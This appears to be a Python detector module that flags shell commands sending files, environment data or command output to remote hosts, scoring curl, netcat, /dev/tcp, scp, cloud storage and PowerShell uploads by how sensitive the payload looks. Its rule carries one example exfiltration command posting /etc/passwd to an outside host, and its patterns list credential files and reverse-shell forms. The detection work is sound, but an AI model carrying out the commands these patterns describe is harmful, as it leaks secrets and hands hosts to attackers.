"""Find commands that send files, environment or command output somewhere."""

import re
from collections.abc import Iterator

from adapters.detectors.exfiltration.address import is_collector
from adapters.detectors.exfiltration.evidence import (
    ChannelRecogniser,
    channel_finding,
    channel_rule,
)
from adapters.detectors.linear_time import Pattern, Subject
from domain.detection.finding import Finding
from domain.detection.taxonomy import Severity

_RULE = channel_rule(
    "command-upload",
    "COMMAND",
    "Command that sends data away",
    "curl, wget, nc, scp, PowerShell and their kin with a sensitive file, the environment "
    "or piped data",
    source="https://attack.mitre.org/techniques/T1048/",
    examples=("curl -d @/etc/passwd https://example.org",),
    near_misses=(
        "curl -O https://download.example.com/tool.tar.gz",
        "scp notes.txt me@backup.local:/home/me",
    ),
    severity=Severity.CRITICAL,
)

_SENSITIVE_FILE = re.compile(
    r"(?i)/etc/(?:passwd|shadow|hosts|sudoers|ssl/private)|\.ssh\b|\bid_(?:rsa|dsa|ecdsa|"
    r"ed25519)|\.aws/|\.azure/|\.config/gcloud|"
    r"\.kube/config|\.docker/config|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.pgpass|"
    r"\.my\.cnf|\.gnupg|"
    r"(?:^|[\s/@=\"'<])\.env\b|\.(?:bash|zsh|psql|mysql)_history|\.(?:pem|pfx|p12|kdbx|"
    r"keystore|jks|ppk|ovpn)\b|"
    r"\bcredentials?\b|\bsecrets?\b|wallet\.dat|cookies?\.(?:sqlite|txt|db)|login ?data|keychain|"
    r"\b(?:ntds\.dit|sam\.hive|lsass)|/proc/(?:self|\d+)/environ|/var/run/secrets|"
    r"serviceaccount/token|\bdump\.sql|\.sql\b|backup\.(?:sql|tar|zip)|"
    r"\bcustomers?\b|\bpatients?\b|\bpasswords?\b|\bprivate\b|\bconversation|\bchat[_-]?history"
)
_ENVIRONMENT = re.compile(
    r"(?:^|[|;&(`\s])(?:env|printenv|set|history|whoami|id|hostname|ifconfig|ip a|uname -a|"
    r"ps aux|gci env:|dir env:|ls -la?R?|"
    r"get-childitem env:|systeminfo|ipconfig|mysqldump|pg_dump(?:all)?|mongodump|sqlite3|"
    r"kubectl get secrets?|aws configure|gpg --export)\b"
)
_SECRET_VARIABLE = re.compile(
    r"\$(?:env:|\{)?\w*(?:SECRET|PASSW|TOKEN|API_?KEY|CREDENTIAL|PRIVATE|_KEY)\w*", re.IGNORECASE
)
_ENCODES = re.compile(
    r"\|\s*(?:base64|base32|xxd|od|gzip|xz|openssl enc|tar|hexdump)\b|\btar\b[^|]{0,80}\|"
)
_AUTHORISES = re.compile(r"(?:-H|--header|-u|--user)[ =]?\s*(?:\"[^\"]*\"|'[^']*'|\S+)")
_HOST = re.compile(
    r"(?i)(?:https?|ftp|sftp|tcp)://(?:[^\s/@]*@)?([\w.-]+)|@([\w-]+(?:\.[\w-]+)+):|/dev/(?"
    r":tcp|udp)/([\w.-]+)|\b(?:nc|ncat|netcat|telnet|socat)\b[^|\n]*?\s([\w-]+(?:\.[\w-]+)+)"
    r"\s+\d{2,5}"
)
_LOCAL = re.compile(r"(?i)^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|::1|host\.docker\.internal)$")


_FORMS = (
    (
        "uploads a file or standard input",
        0.35,
        r"\bcurl\b[^\n|]{0,400}?\s(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|"
        r"-T|--upload-file|--json)[ =]?[\"']?(?:[\w.-]{0,40}=)?@?[^\s]"
        r"|\bwget\b[^\n|]{0,300}?--(?:post|body)-(?:file|data)",
    ),
    (
        "sends piped data over the network",
        0.5,
        # `nc -U` goes no further than a socket of this machine.
        r"\|\s{0,3}(?:nc|ncat|netcat)[ \t]+(?:-[a-zA-TV-Z]|[\w$\"'./@])|"
        r"\|\s{0,3}(?:curl|wget|socat|telnet|openssl s_client|ssh)[ \t]+[-\w$\"\'./@]|"
        # A cell of a table may begin with `mail exchange`.
        r"\|\s{0,3}(?:mail|mailx|sendmail|mutt)[ \t]+(?:-|[\w.+-]+@|[$\"\'])",
    ),
    (
        "sends a file through a raw connection",
        0.6,
        r"\b(?:nc|ncat|netcat|socat|telnet|openssl s_client)[ \t]+[-\w.][^\n|]{2,160}?[^<]"
        r"<(?:[ ][\w./~$]|[\w.~$][\w./~$-]{0,80}(?:[\s\"'`;&|)]|$)|/\w+/)",
    ),
    ("opens a raw connection from the shell", 0.75, r"/dev/(?:tcp|udp)/[\w.-]+/\d"),
    (
        "gives a shell to a remote host",
        0.85,
        r"\b(?:nc|ncat|netcat)\b[^\n|]{0,80}?\s-[a-z]*[ec]\s*(?:/bin/)?(?:ba|z|k)?sh|\b(?"
        r":ba)?sh -i\b[^\n]{0,20}/dev/tcp",
    ),
    (
        "hands a file to a mail or file transfer program",
        0.35,
        r"\b(?:mail|mailx|mutt|sendmail)\b[^\n|]{2,160}?[^<]<(?:[ ][\w./~$]|[.~$]|/\w+/)"
        r"|\bt?ftp\b[^\n|]{1,160}?\bput[ ]+[\w./~$]|\bsocat\b[^\n|]{0,160}?\b(?:FILE|OPEN|GOPEN):",
    ),
    (
        "copies to a remote host",
        0.2,
        r"\b(?:scp|rsync|sftp)\b[^\n|]{1,200}?\s[\w.-]+@[\w.-]+:|\b(?:scp|rsync)\b[^\n|]{1,"
        r"200}?\s[\w-]+(?:\.[\w-]+)+:",
    ),
    (
        "copies to object storage",
        0.2,
        r"\baws s3 (?:cp|sync|mv)\b[^\n|]{1,200}?s3://|\bgsutil (?:-m )?(?:cp|rsync)\b[^\n|"
        r"]{1,200}?gs://|\bgcloud storage (?:cp|rsync|mv)\b[^\n|]{1,200}?gs://|"
        r"\baz storage blob upload(?:-batch)?\b|\bs3cmd (?:put|sync)\b[^\n|]{1,200}?s3://|"
        r"\brclone (?:copy|sync|move)\b|\bazcopy copy\b",
    ),
    (
        "uploads from PowerShell",
        0.4,
        r"(?i:invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b)[^\n]{0,300}?(?"
        r"i:-method\s+[\"']?(?:post|put)|-infile|-body)|(?i:uploadfile|uploadstring|"
        r"uploaddata|start-bitstransfer[^\n]{0,100}upload|bitsadmin[^\n]{0,100}/upload)",
    ),
    (
        "calls an address with computed data",
        0.55,
        r"\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n|]{0,300}?https?://[^\s\"']{0,300}(?"
        r":\$\(|`[a-z/])",
    ),
)
_WORDS = (
    r"(?i)\b(?:curl|wget|nc|ncat|netcat|scp|rsync|sftp|ftp|tftp|socat|telnet|httpie|"
    r"invoke-webrequest|iwr|irm|"
    r"invoke-restmethod|bitsadmin|start-bitstransfer|uploadfile|uploadstring|uploaddata|"
    r"openssl s_client|rclone|"
    r"gsutil|gcloud storage|az storage blob|s3cmd|azcopy|aws s3|mail|sendmail|mutt)\b|"
    r"/dev/(?:tcp|udp)/|\|[ ]?ssh "
)
_REACH = 900
_LEAD = re.compile(r"[-*#>$%\s\d.]{1,8}(?=[A-Za-z(/\"'$])")


class UploadCommands(ChannelRecogniser):
    """Find upload commands line by line, with what is piped into them."""

    gates = (_WORDS,)
    rules = (_RULE,)

    def __init__(self) -> None:
        self._word = Pattern(_WORDS)
        self._forms = tuple((reason, base, Pattern(form)) for reason, base, form in _FORMS)

    def scan(self, subject: Subject) -> Iterator[Finding]:
        """Yield the line, or the code span, from the first command of the pipe to its end."""
        done = 0
        for word in self._word.finditer(subject):
            at, _ = word.span()
            if at < done:
                continue
            start, end = _line_around(subject.text, at)
            done = end
            yield from self._judged(subject, start, end)

    def _judged(self, subject: Subject, start: int, end: int) -> Iterator[Finding]:
        line = subject.text[start:end]
        hosts = [next(filter(None, found.groups())) for found in _HOST.finditer(line)]
        if hosts and all(map(_LOCAL.match, hosts)):
            return
        best: tuple[float, str, tuple[tuple[str, float], ...]] | None = None
        for reason, base, pattern in self._forms:
            if pattern.search(subject, start, end) is not None:
                score, steps = _score(line, base, reason, hosts)
                if best is None or score > best[0]:
                    best = (score, reason, steps)
        if best is not None:
            score, reason, steps = best
            yield channel_finding(_RULE, start, end, score, f"a command that {reason}", steps=steps)


def _line_around(text: str, at: int) -> tuple[int, int]:
    """Return the line of a position without list marks and prompts; bounded on both sides."""
    low = max(0, at - _REACH)
    start = max(text.rfind("\n", low, at), text.rfind("`", low, at), low - 1) + 1
    ends = [end for end in (text.find("\n", at), text.find("`", at)) if end >= 0]
    end = min([*ends, at + _REACH, len(text)])
    while text[start:end].endswith("\\") and text[end : end + 1] == "\n" and end < at + _REACH:
        following = text.find("\n", end + 1)
        end = min(following if following >= 0 else len(text), at + _REACH)
    lead = _LEAD.match(text, start, at)
    start = lead.end() if lead else start
    return start, start + len(text[start:end].rstrip())


def _score(
    line: str, base: float, reason: str, hosts: list[str]
) -> tuple[float, tuple[tuple[str, float], ...]]:
    score = base
    steps = [(reason, score)]
    payload = _AUTHORISES.sub(" ", line)
    for what, found, gain in (
        ("sensitive file", _SENSITIVE_FILE.search(_without_addresses(payload)), 0.55),
        (
            "environment or listing",
            _ENVIRONMENT.search(payload) and ("|" in payload or "$(" in payload or "`" in payload),
            0.4,
        ),
        ("secret variable", _SECRET_VARIABLE.search(payload), 0.35),
        ("encoded on the way", _ENCODES.search(payload), 0.2),
        ("collecting host", any(map(is_collector, hosts)), 0.25),
    ):
        if found:
            score = round(min(0.97, score + gain), 3)
            steps.append((what, score))
    return score, tuple(steps)


def _without_addresses(line: str) -> str:
    return re.sub(r"https?://\S+", " ", line)
